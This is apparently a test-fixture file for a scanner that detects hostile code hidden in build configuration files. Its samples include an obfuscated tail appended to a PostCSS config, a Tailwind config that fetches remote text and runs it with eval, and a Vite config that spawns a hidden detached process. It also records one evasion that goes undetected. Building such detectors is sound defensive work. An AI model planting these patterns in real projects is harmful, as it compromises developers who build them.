import type { Examples } from "@doorward/core";

const config = "export default {\n  plugins: { tailwindcss: {}, autoprefixer: {} },\n};\n";
const names = Array.from({ length: 40 }, (_, index) => `_$_${(index + 0x1e42).toString(16)}`);
const unreadable = names.map((name, index) => `var ${name}=g[_$_1e42[${index}]](${name});`).join("");

/** Configurations with a tail, and honest ones that go on behind their export. */
export const examples: Examples = {
  hits: [
    {
      name: "an unreadable tail behind a style configuration",
      files: { "postcss.config.mjs": `${config}\n${unreadable}\n` },
    },
    {
      name: "a request whose answer is run",
      files: {
        "tailwind.config.js": `module.exports = { content: [] };
fetch("https://api.example/theme").then((answer) => answer.text()).then((text) => eval(text));
`,
      },
    },
    {
      name: "a program that is started so that nobody sees it",
      files: {
        "vite.config.ts": `import { spawn } from "node:child_process";
${config}
spawn("node", ["-e", "setTimeout(() => {}, 1000)"], { detached: true, stdio: "ignore", windowsHide: true }).unref();
`,
      },
    },
  ],
  misses: [
    {
      name: "functions that a configuration declares below its export",
      why: "Functions may be declared anywhere; nothing runs behind the export.",
      files: {
        "vite.config.ts":
          "export default { resolve: { alias: alias() } };\n\nfunction alias() {\n  return { a: './src' };\n}\n",
      },
    },
    {
      name: "a line of advice that a configuration prints at its end",
      why: "It says something and reaches nothing outside of the project.",
      files: {
        "webpack.config.js":
          'module.exports = { mode: "production" };\nconsole.log("Building for", process.env.NODE_ENV);\n',
      },
    },
    {
      name: "a configuration that asks Git for the commit in the open",
      why: "A plain command that anybody can read tells the build which commit it is.",
      files: {
        "next.config.js": `const { execSync } = require("child_process");
module.exports = {};
module.exports.env = { COMMIT: execSync("git rev-parse HEAD").toString() };
`,
      },
    },
    {
      name: "a program that starts its server behind its export",
      why: "This is no configuration, and servers are started at the end of their file.",
      files: {
        "server.js":
          'const app = require("express")();\nmodule.exports = app;\nfetch("https://api.example/ready");\napp.listen(3000);\n',
      },
    },
  ],
  evasions: [
    {
      name: "the same request before the export",
      caughtBy: "nothing",
      files: {
        "tailwind.config.js": `fetch("https://api.example/theme").then((answer) => answer.text()).then(console.log);
module.exports = { content: [] };
`,
      },
    },
  ],
};
